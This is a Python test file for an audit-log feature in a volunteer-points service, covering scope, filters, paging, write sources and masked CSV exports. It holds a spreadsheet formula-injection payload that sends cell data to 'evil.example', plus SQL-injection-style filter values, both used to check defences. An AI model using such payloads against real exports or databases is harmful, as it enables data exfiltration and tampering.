"""Reading the audit log: scope, filters, keyset pages, where each write came from, exports."""

import csv
import io
from datetime import timedelta

import pytest
from werkzeug.datastructures import MultiDict

from points_service.audit import queries
from points_service.audit.models import AuditEvent
from points_service.audit.service import list_audit_events
from points_service.errors import PermissionDenied, ValidationError
from points_service.extensions import db
from points_service.organizations.service import create_organization
from points_service.timeutil import to_local, utcnow
from tests.builders import PASSWORD

HYPERLINK = '=HYPERLINK("evil.example?x="&A1,"click")'


def _filters(**values):
    return queries.parse_filters(MultiDict(values))


def _iso(moment):
    return moment.isoformat() + "+00:00"


@pytest.fixture
def tree(build):
    return build.tree()


@pytest.fixture
def district_admin(build, tree):
    return build.staff("admin", tree["districts"][0])


def _enter(build, volunteer, organizer, days_ago):
    started = (utcnow() - timedelta(days=days_ago)).replace(second=0, microsecond=0)
    return build.record(volunteer, started_at=started, entered_by=organizer)


def test_an_admin_reads_only_the_events_of_their_subtree_and_global_ones_only_at_the_root(build, tree):
    inside, outside = tree["communities"][0], tree["communities"][3]
    build.record(build.volunteer(inside), entered_by=build.organizer(inside))
    build.record(build.volunteer(outside), organization=outside, entered_by=build.organizer(outside))
    district_admin = build.staff("admin", tree["districts"][0])
    city_admin = build.staff("admin", tree["city"])

    seen, _next = queries.find_events(district_admin, _filters(action="record.enter"))
    assert [event.organization_id for event in seen] == [inside.id]
    everything, _next = queries.find_events(district_admin, _filters())
    assert all(event.organization_id is not None for event in everything)

    city_view, _next = queries.find_events(city_admin, _filters())
    assert {event.organization_id for event in city_view if event.action == "record.enter"} == {inside.id, outside.id}
    assert any(event.organization_id is None and event.action == "user.create" for event in city_view)


def test_organizers_and_counter_staff_cannot_read_the_log(build):
    for user in (build.staff("organizer"), build.staff("counter")):
        with pytest.raises(PermissionDenied):
            queries.find_events(user, _filters())


def test_filters_by_actor_action_object_and_local_dates(build, tree, district_admin):
    community = tree["communities"][0]
    first, second = build.organizer(community), build.staff("organizer", community)
    volunteer = build.volunteer(community)
    older = _enter(build, volunteer, first, days_ago=3)
    newer = _enter(build, volunteer, second, days_ago=2)

    by_actor, _next = queries.find_events(district_admin, _filters(actor=second.username))
    assert [event.target_id for event in by_actor] == [str(newer.id)]
    by_object, _next = queries.find_events(
        district_admin, _filters(target_type="service_record", target_id=str(older.id))
    )
    assert [(event.action, event.target_id) for event in by_object] == [("record.enter", str(older.id))]

    today = to_local(utcnow(), community.timezone).date()
    in_range, _next = queries.find_events(
        district_admin, _filters(action="record.enter", date_from=today.isoformat(), date_to=today.isoformat())
    )
    assert len(in_range) == 2
    before, _next = queries.find_events(
        district_admin, _filters(action="record.enter", date_to=(today - timedelta(days=1)).isoformat())
    )
    assert before == []


@pytest.mark.parametrize(
    ("values", "field"),
    [
        ({"date_from": "2026-02-30"}, "date_from"),
        ({"date_to": "yesterday"}, "date_to"),
        ({"date_from": "1900-01-01"}, "date_from"),
        ({"date_from": "2026-05-02", "date_to": "2026-05-01"}, "date_to"),
        ({"action": "DROP TABLE"}, "action"),
        ({"target_id": "12"}, "target_type"),
        ({"target_type": "service_record", "target_id": "1 OR 1=1"}, "target_id"),
    ],
)
def test_odd_filter_values_are_refused_naming_the_field(values, field):
    with pytest.raises(ValidationError) as refused:
        _filters(**values)
    assert refused.value.details == {"field": field}


def test_pages_follow_the_event_ids_without_gaps_or_repeats(build, tree, district_admin):
    community = tree["communities"][0]
    organizer = build.organizer(community)
    for days_ago in range(1, 8):
        _enter(build, build.volunteer(community), organizer, days_ago)
    wanted = _filters(action="record.enter")

    pages, before_id = [], None
    while True:
        events, before_id = queries.find_events(district_admin, wanted, before_id=before_id, limit=3)
        pages.append([event.id for event in events])
        if before_id is None:
            break
    ids = [event_id for page in pages for event_id in page]
    assert [len(page) for page in pages] == [3, 3, 1]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == 7


def test_web_api_and_command_line_writes_record_their_source_and_request_id(app, client, build, runner, tree):
    community = tree["communities"][0]
    organizer = build.organizer(community)
    volunteer = build.volunteer(community)
    build.service_rules()
    client.post("/login", data={"login": organizer.username, "password": PASSWORD})
    started = to_local((utcnow() - timedelta(days=2)).replace(second=0, microsecond=0), community.timezone)
    web = client.post(
        "/organizer/records/new",
        data={
            "member_no": volunteer.volunteer.member_no,
            "organization": str(community.id),
            "category": "elderly_care",
            "started_at": started.strftime("%Y-%m-%dT%H:%M"),
            "ended_at": (started + timedelta(minutes=30)).strftime("%Y-%m-%dT%H:%M"),
        },
        headers={"X-Request-Id": "proxy-req-0001"},
    )
    assert web.status_code in (200, 302)
    api_started = (utcnow() - timedelta(days=1)).replace(second=0, microsecond=0)
    api = app.test_client().post(
        "/api/v1/service-records",
        json={
            "member_no": volunteer.volunteer.member_no,
            "category": "elderly_care",
            "started_at": _iso(api_started),
            "ended_at": _iso(api_started + timedelta(minutes=30)),
        },
        headers={**build.bearer(organizer), "X-Request-Id": "bad id with spaces"},
    )
    assert api.status_code == 201, api.json
    result = runner.invoke(
        args=["points", "org-add", "Street 9", "--kind", "street", "--parent", "#2", "--actor", "ops"]
    )
    assert result.exit_code == 0, result.output

    web_event, api_event = sorted(list_audit_events(action="record.enter"), key=lambda event: event.id)
    assert (web_event.source, web_event.request_id) == ("web", "proxy-req-0001")
    assert web.headers["X-Request-Id"] == "proxy-req-0001"
    assert api_event.source == "api"
    assert api_event.request_id == api.headers["X-Request-Id"] != "bad id with spaces"
    [cli_event] = list_audit_events(action="organization.create", limit=1)
    assert (cli_event.source, cli_event.actor_label) == ("cli", "cli:ops")
    assert cli_event.request_id


def _export(client, **form):
    response = client.post("/admin/audit/export", data=form)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_a_formula_in_an_exported_value_comes_out_as_text(client, build, tree):
    city_admin = build.staff("admin", tree["city"])
    district = create_organization(HYPERLINK, "district", tree["city"], actor=city_admin)
    client.post("/login", data={"login": city_admin.username, "password": PASSWORD})

    header, *rows = _export(client, format="csv", target_type="organization", target_id=str(district.id))

    after = {row[header.index("Field")]: row[header.index("After")] for row in rows}
    assert after["name"] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_exports_are_masked_unless_asked_and_an_unmasked_export_is_audited(client, build, tree):
    city_admin = build.staff("admin", tree["city"])
    volunteer = build.volunteer(tree["communities"][0], name="Ouyang Xiu")
    with db.session.begin_nested():
        db.session.add(
            AuditEvent(
                actor_id=city_admin.id,
                action="user.create",
                target_type="user",
                target_id=str(volunteer.id),
                after={"name": "Ouyang Xiu", "mobile": volunteer.mobile},
            )
        )
    db.session.commit()
    client.post("/login", data={"login": city_admin.username, "password": PASSWORD})

    masked = _export(client, format="csv", action="user.create")
    assert "Ouyang Xiu" not in str(masked) and volunteer.mobile not in str(masked)
    assert "O*********" in str(masked)
    unmasked = _export(client, format="csv", action="user.create", unmasked="1")
    assert "Ouyang Xiu" in str(unmasked) and volunteer.mobile in str(unmasked)

    exports = list_audit_events(action="audit.export") + list_audit_events(action="audit.export_unmasked")
    assert sorted((event.action, event.after["unmasked"]) for event in exports) == [
        ("audit.export", False),
        ("audit.export_unmasked", True),
    ]
    assert all(event.actor_id == city_admin.id and event.source == "web" for event in exports)
